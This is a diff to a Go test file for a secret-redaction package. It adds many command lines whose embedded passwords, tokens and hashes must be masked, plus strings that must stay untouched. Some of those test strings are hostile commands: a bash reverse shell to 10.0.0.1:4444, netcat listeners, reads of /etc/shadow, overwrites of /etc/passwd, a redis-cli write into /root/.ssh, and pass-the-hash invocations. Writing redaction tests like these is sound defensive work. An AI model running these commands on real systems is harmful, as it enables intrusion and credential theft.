@@ -146,6 +146,84 @@ var cases = []struct {
 	{redact.Password, "mysql -e CREATE USER bob IDENTIFIED BY '«hunter2»'"},
 	{redact.Password, "psql -c ALTER USER bob WITH PASSWORD '«hunter2»'"},
 	{redact.Password, "machine host login bob password «hunter2»"},
+	// Passwords that look like flags, tools by their positions, and where else an audit found leaks.
+	{redact.Password, "sshpass -p«RootPass1» ssh root@h"},
+	{redact.Password, "mysqldump -uroot -p«rootpassword» db"},
+	{redact.Password, "mysql -uroot -p«MyToken1» db"},
+	{redact.Password, "mysql -umytoken -p«hunter2» db"},
+	{redact.Password, "7z a -p«TopSecret» a.7z d"},
+	{redact.Password, "docker login -p«MyPassword» reg"},
+	{redact.Password, "mystery -p«My-Password1» y"},
+	{redact.Password, "su - root -c mysql -p«hunter2»"},
+	{redact.Password, `sh -c"mysql -p«hunter2» db"`},
+	{redact.Password, "runuser -u bob --command=mysql -p«hunter2»"},
+	{redact.Password, `{"args":["mysql","-p«hunter2»","db"]}`},
+	{redact.Password, `["sshpass","-p","«hunter2»","ssh"]`},
+	{redact.Password, "mysqlsh bob:«hunter2»@h:3306"},
+	{redact.Password, "mysqlsh --uri bob:«hunter2»@h:3306"},
+	{redact.Password, "curl -x bob:«hunter2»@proxy:3128 https://h"},
+	{redact.Token, "curl -u «0123456789abcdef0123»: https://h"},
+	{redact.Password, "ldapsearch -xw«MyPassword» -b dc=x"},
+	{redact.Password, "redis-cli AUTH bob «hunter2» > /tmp/o"},
+	{redact.Password, "htpasswd -bn bob «hunter2» > /etc/nginx/.htpasswd"},
+	{redact.Password, "rclone config create r webdav url https://h user bob pass «hunter2»"},
+	{redact.Password, "rclone obscure «hunter2»"},
+	{redact.Password, "mkpasswd -m sha-512 «hunter2»"},
+	{redact.Password, "doveadm pw -s SHA512 -p «hunter2»"},
+	{redact.Password, "ansible-vault encrypt_string «hunter2» --name x"},
+	{redact.Password, "neo4j-admin set-initial-password «hunter2»"},
+	{redact.Password, "radtest bob «hunter2» localhost 0 x"},
+	{redact.Password, "pdftk in.pdf input_pw «hunter2» output o.pdf"},
+	{redact.Password, "samba-tool user create bob «hunter2»"},
+	{redact.Password, "iscsiadm -m node -o update -n node.session.auth.password -v «hunter2»"},
+	{redact.Password, `wpa_cli set_network 0 psk "«hunter2»"`},
+	{redact.Password, "nmcli c modify x 802-1x.password «hunter2»"},
+	{redact.Password, `net use \\h\s /user:bob «hunter2»`},
+	{redact.Password, "sqlplus scott/«hunter_2» @x.sql"},
+	{redact.Password, "sqlplus -s sys/«hunter2»@db as sysdba"},
+	{redact.Password, "expdp userid=scott/«hunter_2» full=y"},
+	{redact.Password, `usermod -p "$(openssl passwd -1 «hunter2»)" root`},
+	{redact.CloudKey, "mc alias set m http://h AK9zzz «hunter2»"},
+	{redact.CloudKey, "b2 authorize-account id9 «hunter2»"},
+	{redact.Token, "vault operator unseal «hunter-2»"},
+	{redact.Token, "vault login «hunter-2»"},
+	{redact.Token, "cargo login «hunter2»"},
+	{redact.Secret, "vault kv put secret/db k=«hunter2»"},
+	{redact.Secret, "flyctl secrets set DB=«hunter2»"},
+	{redact.Secret, "kubectl create secret generic n --from-literal=k=«hunter2»"},
+	{redact.Secret, "kubectl create secret generic n --from-literal 'k=«my secret»' -o yaml"},
+	{redact.Secret, "az keyvault secret set --vault-name v --name n --value «hunter2»"},
+	{redact.Secret, "aws ssm put-parameter --name n --type SecureString --value «hunter2»"},
+	{redact.PasswordHash, "secretsdump.py -hashes «aad3b435b51404ee:31d6cfe0d16ae931» corp/bob@10.0.0.5"},
+	{redact.PasswordHash, "xfreerdp /v:h /u:b /pth:«0123456789abcdef»"},
+	{redact.Token, "npm config set //registry.npmjs.org/:_authToken «hunter2»"},
+	{redact.Token, "git config --global github.token «hunter2»"},
+	{redact.Password, "pulumi config set dbPassword «hunter2» --secret"},
+	{redact.Password, "sh -c echo «hunter2» | passwd root"},
+	{redact.Password, `printf "«hunter2\nhunter2»" | passwd root`},
+	{redact.Password, "printf '%s' '«hunter2»' | cryptsetup luksOpen /dev/sda x"},
+	{redact.Password, "yes «hunter2» | sudo passwd bob"},
+	{redact.Password, "echo «hunter2» | su - root -c id"},
+	{redact.Password, "echo «hunter2» | kinit bob"},
+	{redact.Password, "echo «hunter2» | gpg --batch --passphrase-fd 0 -d x"},
+	{redact.Password, "echo -n «hunter2» | docker secret create db -"},
+	{redact.Password, "chpasswd <<EOF\nroot:«hunter2»\nEOF"},
+	{redact.Password, "passwd root <<'EOF'\n«hunter2\nhunter2»\nEOF\nid"},
+	{redact.Token, "GITHUB_PAT=«hunter2» gh pr list"},
+	{redact.Token, `curl --header=Authorization:Bearer\ «hunter2» h`},
+	{redact.Token, "git clone https://«token_123»@host/x"},
+	{redact.Token, "git clone https://«abcdefABCDEF0123»@host/x"},
+	{redact.Token, "git clone https://«0123456789abcdef0123»:x-oauth-basic@github.com/x"},
+	{redact.Password, "git clone https://bob:«p@ss/w0rd»@github.com/x"},
+	{redact.Password, "pip install git+https://bob:«hunter2»@github.com/x/y@v1"},
+	{redact.Password, "npm i https://bob:«hunter2»@registry/@scope/pkg"},
+	{redact.Password, "redis-cli -u redis://:«12#34ab»@h:6379"},
+	{redact.Password, "amqp://bob:«a?b@c»@h:5672/"},
+	{redact.Token, "curl -d x https://hooks.slack.com/services/T00000000/B00000000/«XXXXXXXXyyyyyyyy0»"},
+	{redact.Token, "curl https://discord.com/api/webhooks/123456789/«abcDEF_-123»?wait=true"},
+	{redact.Token, "curl https://api.telegram.org/bot123456789:«AAabcdefghijklmnopqrstuvwxyz012345»/sendMessage?chat_id=1"},
+	{redact.Password, `expect -c spawn ssh h; expect "*assword:"; send "«hunter2»\r"; interact`},
+	{redact.Password, "ftp -n h <<EOF\nuser bob «hunter2»\nEOF"},
 }
 
 func TestStringRedacts(t *testing.T) {
@@ -176,6 +254,18 @@ func TestStringRedactsSeveral(t *testing.T) {
 	}
 }
 
+func TestStringRedactsEach(t *testing.T) {
+	const want = "[redacted password]"
+	for _, form := range []string{
+		"(echo %; echo %) | passwd root", "{ echo %; echo %; } | sudo passwd bob", "ipa-server-install -p % -a %", "rclone config create r x pass % pass2 %", "chpasswd <<EOF\na:%\nb:%\nEOF\nid",
+	} {
+		got, found := redact.String(strings.ReplaceAll(form, "%", "hunter2"))
+		if want := strings.ReplaceAll(form, "%", want); got != want || len(found) != 2 {
+			t.Errorf("got %s %q\nwant %s", got, found, want)
+		}
+	}
+}
+
 // evidence are texts that stay as they are.
 var evidence = []string{
 	// The same letters of other tools.
@@ -186,6 +276,16 @@ var evidence = []string{
 	"mysql -e x && nc -p 4444 host", "12:00:00.1: x | container_name=mongo command=nc -l -p 4444 terminal=0", "useradd -m -s /bin/sh bob", "net user", "net user bob * /add",
 	"openssl enc -pass env:PW -in f", "openssl req -newkey rsa:2048 -keyout k.pem -passout file:/run/pw", "sshpass -e ssh host", "sshpass -f /run/pw ssh host", "htpasswd /etc/x bob",
 	"chpasswd < /tmp/list", "passwd root", "getent passwd root", "cat /etc/shadow /etc/passwd", "curl -b jar.txt https://host/", "curl --cookie-jar /tmp/j https://host/",
+	// What stands beside the secrets of the tools.
+	"docker run -d --name mongo -p 27017:27017 mongo", "docker run --name=mongo -p 127.0.0.1:27017:27017 mongo", "mongo -u admin -p --authenticationDatabase admin",
+	"kubectl create configmap n --from-literal=k=v9x", "kubectl delete secret db-token-9x", "kubectl config set-credentials bob9", "sqlplus / as sysdba", "sqlplus /nolog @/opt/x.sql", "sqlplus -s bob@db @x.sql",
+	"rman target / cmdfile x.rcv", "expdp directory=/x dumpfile=a/b9.dmp", "secretsdump.py corp/bob@10.0.0.5 -just-dc", "mc ls /tmp/x9", "7z x a.7z -o/tmp/x9", "mysql -u root -p shop < /tmp/x9",
+	"mysqldump -u root --all-databases > /tmp/dump9", "htpasswd -n bob > /tmp/x9", "curl -x proxy:3128 https://host", "curl -E cert.pem https://host", "etcdctl --user root get /", "vault kv get secret/db", "vault login -method=userpass username=bob9",
+	"su - root -c nc -l -p 4444", "sh -c\"nc -l -p 4444\"", "runuser -u bob --command=nc -l -p 4444", "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1",
+	"redis-cli -h 10.0.0.5 config set dir /root/.ssh", "redis-cli config get requirepass", "redis-cli slaveof 10.0.0.9 6379", "npm config get registry", "git config --global credential.helper store9", "aws configure set region eu-west-1",
+	"iscsiadm -m node -o update -n node.startup -v automatic9", "kubeadm join h:6443 --discovery-token-ca-cert-hash sha256:0123456789abcdef", "gh secret set NAME", "x.pat=9abc",
+	"cat x9 | grep passwd root", "echo root9 | tee /etc/passwd", "echo hello9 | ssh su@host", "cat /etc/passwd | while read x9", "tee /etc/passwd <<EOF\nroot9:x:0:0\nEOF", "expect -c spawn ssh h; expect \"$ \"; send \"id9\\r\"",
+	"git clone https://bob2@bitbucket.org/x", "https://x-token-auth@bitbucket.org/x/y", "npm i https://registry.npmjs.org/@scope/pkg", "http://10.0.0.1:8080/a?x=a@b", "curl https://api.telegram.org/",
 	// Names that say something else.
 	"app --password-file /run/pw", "app --password-file=/run/pw", "app --token-ttl 24h", "app --token-ttl=24h", "X-aws-ec2-metadata-token-ttl-seconds: 21600", "sed -i s/password=.*// f", "xmllint --pass-through 1", "app --pass-through=x1",
 	"GLIBC_TUNABLES=glibc.tune.hwcaps=-WAITED,glibc.tune.secrets=2", "SSH_AUTH_SOCK=/tmp/ssh-x/agent.1", "TOKEN_FILE=/x", "TOKEN_FILE=x1y2z3", "key=value", "sort_key=name9",
